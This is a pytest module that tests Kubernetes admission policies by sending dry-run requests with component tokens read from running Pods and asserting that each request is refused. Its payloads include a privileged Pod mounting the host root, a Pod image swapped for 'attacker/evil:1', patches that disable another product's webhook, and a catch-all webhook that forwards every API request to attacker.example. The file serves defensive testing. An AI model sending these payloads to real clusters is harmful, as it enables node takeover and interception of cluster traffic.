"""Attacks with each component's own token on kind (docs/install.md "Install accelpolicy on your own cluster (kind as the example)"), right after the walkthrough.

Each token is read from the component's running Pod (``kubectl exec ... cat`` of the projected
ServiceAccount token the kubelet mounted: the agent's carries its node's claim), then used for raw API
requests to the kind API server (testing/rawapi.py: no client-side GET, one request each), as an
attacker who took the node or the controller's Pod would. Harmful writes are server-side dry runs
(``dryRun=All``: admission runs in full, nothing is stored); refusals are asserted with the policy's (or
RBAC's) exact message. Non-destructive: the cluster is left as the walkthrough left it.

Agent (its token from the agent Pod on the worker standing in for node-a10g, "node A"; node B is the
one for node-t4-a): patch node B's labels, patch a Pod on node B, patch the image of a Pod on its own
node (custom-demo, Running since step 5), create a Devices for node B, delete node B's NodeFeature,
patch another product's webhook configuration. Controller (its token from the leader's Pod): create a
Pod no Instance owns (kube-system, another ServiceAccount, privileged, hostPath /), a Pod of an Instance
without a host-access grant asking for host access, patch or delete another product's webhook
configuration, create one under another name. The walkthrough's own writes went through these same
policies (its Instance Pods started, the agents kept the ledger): `test_walkthrough.py` is the proof that
nothing the components do today is refused.
"""
from __future__ import annotations

import json

import pytest

from testing.rawapi import JSON_PATCH, MERGE_PATCH, Answer, RawClient

SYSTEM, NS = "gpustack-system", "default"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
VAP = "ValidatingAdmissionPolicy '{0}' with binding '{0}' denied request: "
AGENT, CONTROLLER = VAP.format("accelpolicy-agent-node"), VAP.format("accelpolicy-controller-scope")
GRANTS = VAP.format("accelpolicy-instance-pod-grants")
RESULTS: list[tuple[str, str, str]] = []   # (attempt, expected, result) for the session's summary


@pytest.fixture(scope="module")
def kind(cluster):
    if cluster.stack is None:
        pytest.skip("kind backend only: tokens of the chart's Pods (--cluster=kind)")
    return cluster


def _pod_on(cluster, component: str, node: str | None = None) -> dict:
    pods = json.loads(cluster.kubectl.stdout("-n", SYSTEM, "get", "pods", "-l", f"app.kubernetes.io/component={component}",
                                             "-o", "json"))["items"]
    pods = [p for p in pods if p["status"].get("phase") == "Running" and not p["metadata"].get("deletionTimestamp")
            and (node is None or p["spec"].get("nodeName") == node)]
    assert pods, f"no running {component} Pod" + (f" on {node}" if node else "")
    return pods[0]


def _token(cluster, pod: dict) -> RawClient:
    token = cluster.kubectl.stdout("-n", SYSTEM, "exec", pod["metadata"]["name"], "--", "cat", TOKEN).strip()
    return RawClient.for_token(cluster.kubeconfig, token)


@pytest.fixture(scope="module")
def nodes(kind) -> tuple[str, str]:
    return kind.stack.kind_node["node-a10g"], kind.stack.kind_node["node-t4-a"]


@pytest.fixture(scope="module")
def agent(kind, nodes) -> RawClient:
    return _token(kind, _pod_on(kind, "agent", nodes[0]))


@pytest.fixture(scope="module")
def controller(kind) -> RawClient:
    lease = json.loads(kind.kubectl.stdout("-n", SYSTEM, "get", "lease", "gpustack-operator-worker", "-o", "json"))
    leader = lease["spec"]["holderIdentity"].split("_")[0]
    pod = json.loads(kind.kubectl.stdout("-n", SYSTEM, "get", "pod", leader, "-o", "json"))
    return _token(kind, pod)


def _refused(attempt: str, answer: Answer, message: str, expected: str) -> None:
    RESULTS.append((attempt, expected, "refused" if not answer.allowed else "ALLOWED"))
    assert not answer.allowed and message in answer.message, f"{attempt}: {answer.status} {answer.message}"
    RESULTS[-1] = (attempt, expected, f"refused {answer.status}: {message.split('denied request: ')[-1]}")


def test_the_agent_token_carries_its_node_and_its_node_only(agent, nodes):
    review = agent.create("/apis/authentication.k8s.io/v1/selfsubjectreviews",
                          {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"})
    assert review.allowed, review.message
    info = review.body["status"]["userInfo"]
    assert info["username"] == f"system:serviceaccount:{SYSTEM}:gpustack-device-manager"
    assert info["extra"]["authentication.kubernetes.io/node-name"] == [nodes[0]]


def test_the_agent_of_node_a_is_refused_everything_of_node_b(agent, nodes, kind):
    a, b = nodes
    other = f"the accelpolicy agent of node {a} writes only its own node's objects; "
    _refused(f"agent of {a}: patch Node {b}'s labels",
             agent.patch(f"/api/v1/nodes/{b}", {"metadata": {"labels": {"gpustack.ai/managed": "false"}}}, dry_run=True),
             AGENT + other + f"Node {b} belongs to node {b}", "refused (agent-node)")
    victim = _pod_on(kind, "agent", b)["metadata"]["name"]
    _refused(f"agent of {a}: patch a Pod on {b}",
             agent.patch(f"/api/v1/namespaces/{SYSTEM}/pods/{victim}",
                         {"metadata": {"annotations": {"device.gpustack.ai/accelerator.allocated": "{}"}}}, dry_run=True),
             AGENT + other + f"Pod {SYSTEM}/{victim} belongs to node {b}", "refused (agent-node)")
    _refused(f"agent of {a}: create a Devices for {b}",
             agent.create("/apis/worker.gpustack.ai/v1/devices",
                          {"apiVersion": "worker.gpustack.ai/v1", "kind": "Devices", "metadata": {"name": b},
                           "spec": {"groups": []}}, dry_run=True),
             AGENT + other + f"Devices {b} belongs to node {b}", "refused (agent-node)")
    _refused(f"agent of {a}: delete {b}'s NodeFeature",
             agent.delete(f"/apis/nfd.k8s-sigs.io/v1alpha1/namespaces/{SYSTEM}/nodefeatures/{b}-gpustack-worker",
                          dry_run=True),
             AGENT + other + f"NodeFeature {SYSTEM}/{b}-gpustack-worker belongs to node {b}", "refused (agent-node)")


def test_the_agent_may_not_change_a_pod_spec_on_its_own_node(agent, nodes, kind):
    a = nodes[0]
    pod = json.loads(kind.kubectl.stdout("-n", NS, "get", "pod", "custom-demo", "-o", "json"))
    assert pod["spec"]["nodeName"] == a   # the walkthrough's A10G Instance runs on node A
    _refused(f"agent of {a}: patch custom-demo's image (its own node)",
             agent.patch(f"/api/v1/namespaces/{NS}/pods/custom-demo",
                         [{"op": "replace", "path": "/spec/containers/0/image", "value": "attacker/evil:1"}],
                         JSON_PATCH, dry_run=True),
             AGENT + f"the accelpolicy agent of node {a} may change on a Pod of its node only the annotation "
                     f"device.gpustack.ai/accelerator.allocated; Pod {NS}/custom-demo: its spec is not the agent's to change",
             "refused (agent-node)")
    # and its own writes pass: the allocation annotation as it is (a no-op patch, dry run)
    key = "device.gpustack.ai/accelerator.allocated"
    value = pod["metadata"]["annotations"][key]
    answer = agent.patch(f"/api/v1/namespaces/{NS}/pods/custom-demo", {"metadata": {"annotations": {key: value}}},
                         MERGE_PATCH, dry_run=True)
    RESULTS.append((f"agent of {a}: its allocation annotation on custom-demo", "allowed",
                    "allowed" if answer.allowed else f"REFUSED {answer.message}"))
    assert answer.allowed, answer.message


def _forbidden(user: str, verb: str, resource: str, name: str) -> str:
    return (f'{resource}.admissionregistration.k8s.io "{name}" is forbidden: User "{user}" cannot {verb} resource '
            f'"{resource}" in API group "admissionregistration.k8s.io" at the cluster scope')


KUEUE_CONFIG = "kueue-validating-webhook-configuration"


def test_the_agent_may_not_touch_a_webhook_configuration(agent):
    user = f"system:serviceaccount:{SYSTEM}:gpustack-device-manager"
    _refused("agent: patch Kueue's webhook configuration (failurePolicy Ignore)",
             agent.patch(f"/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/{KUEUE_CONFIG}",
                         [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}], JSON_PATCH,
                         dry_run=True),
             _forbidden(user, "patch", "validatingwebhookconfigurations", KUEUE_CONFIG), "refused (RBAC)")


def _attack_pod(name: str, namespace: str, **spec) -> dict:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace},
            "spec": {"containers": [{"name": "main", "image": "ubuntu:24.04"}], **spec}}


def test_the_controller_creates_no_pod_that_is_not_an_instances(controller):
    root = _attack_pod("rooted", "kube-system", serviceAccountName="generic-garbage-collector",
                       containers=[{"name": "main", "image": "ubuntu:24.04", "securityContext": {"privileged": True},
                                    "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
                       volumes=[{"name": "root", "hostPath": {"path": "/"}}])
    _refused("controller: privileged Pod with hostPath / and another ServiceAccount in kube-system",
             controller.create("/api/v1/namespaces/kube-system/pods", root, dry_run=True),
             CONTROLLER + "the accelpolicy controller creates no Pod in the reserved namespace kube-system "
                          "(Pod kube-system/rooted): Instances run elsewhere", "refused (controller-scope)")
    orphan = _attack_pod("orphan", NS, serviceAccountName="default")
    _refused("controller: a Pod no Instance owns, in default",
             controller.create(f"/api/v1/namespaces/{NS}/pods", orphan, dry_run=True),
             CONTROLLER + "the accelpolicy controller creates only the Pods of Instances: Pod default/orphan is not "
                          "controlled by an Instance of its name", "refused (controller-scope)")


def test_the_controller_gives_an_instance_pod_no_host_access_it_was_not_granted(controller, kind):
    """custom-demo holds no grant (spec.privileged unset, no hostPath volume): a Pod of it asking for a
    privileged container or the node's root is refused; its real Pod (Running) passed the same policies."""
    instance = json.loads(kind.kubectl.stdout("-n", NS, "get", "instance", "custom-demo", "-o", "json"))
    assert not instance["spec"].get("privileged") and not any(
        "hostPath" in v for v in instance["spec"].get("additionalVolumes") or [])
    real = json.loads(kind.kubectl.stdout("-n", NS, "get", "pod", "custom-demo", "-o", "json"))
    forged = {"apiVersion": "v1", "kind": "Pod",
              "metadata": {"name": "custom-demo", "namespace": NS, "labels": real["metadata"]["labels"],
                           "ownerReferences": real["metadata"]["ownerReferences"]},
              "spec": {"automountServiceAccountToken": False, "hostIPC": True,
                       "containers": [{"name": "main", "image": "ubuntu:24.04", "securityContext": {"privileged": True},
                                       "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
                       "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}
    answer = controller.create(f"/api/v1/namespaces/{NS}/pods", forged, dry_run=True)
    _refused("controller: custom-demo's Pod (no grant) privileged with hostPath /", answer,
             GRANTS + "Pod default/custom-demo: Instance custom-demo holds no privileged grant (spec.privileged), so "
                      "its Pod may not run a privileged container", "refused (instance-pod-grants)")


def test_the_controller_writes_only_its_own_webhook_configurations(controller):
    user = f"system:serviceaccount:{SYSTEM}:gpustack-controller"
    base = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
    _refused("controller: patch Kueue's webhook configuration (failurePolicy Ignore)",
             controller.patch(f"{base}/{KUEUE_CONFIG}", [{"op": "replace", "path": "/webhooks/0/failurePolicy",
                                                          "value": "Ignore"}], JSON_PATCH, dry_run=True),
             _forbidden(user, "patch", "validatingwebhookconfigurations", KUEUE_CONFIG), "refused (RBAC)")
    _refused("controller: delete Kueue's webhook configuration",
             controller.delete(f"{base}/{KUEUE_CONFIG}", dry_run=True),
             _forbidden(user, "delete", "validatingwebhookconfigurations", KUEUE_CONFIG), "refused (RBAC)")
    catch_all = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
                 "metadata": {"name": "accelpolicy-catch-all"},
                 "webhooks": [{"name": "catch.all.example", "sideEffects": "None", "admissionReviewVersions": ["v1"],
                               "clientConfig": {"url": "https://attacker.example/validate"},
                               "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"],
                                          "resources": ["*"], "scope": "*"}]}]}
    _refused("controller: create a catch-all webhook configuration under another name",
             controller.create(base, catch_all, dry_run=True),
             CONTROLLER + "the accelpolicy controller writes only the webhook configurations gpustack-worker-mutation, "
                          "gpustack-worker-validation (rules/admission/registration.yaml), not accelpolicy-catch-all",
             "refused (controller-scope)")


def test_zz_attack_table(kind, record_step):
    """The table of this module's attempts (printed with the session's figures)."""
    assert RESULTS
    for attempt, expected, result in RESULTS:
        record_step(f"attack: {attempt} | expected {expected} | {result}", 0.0, table=False)
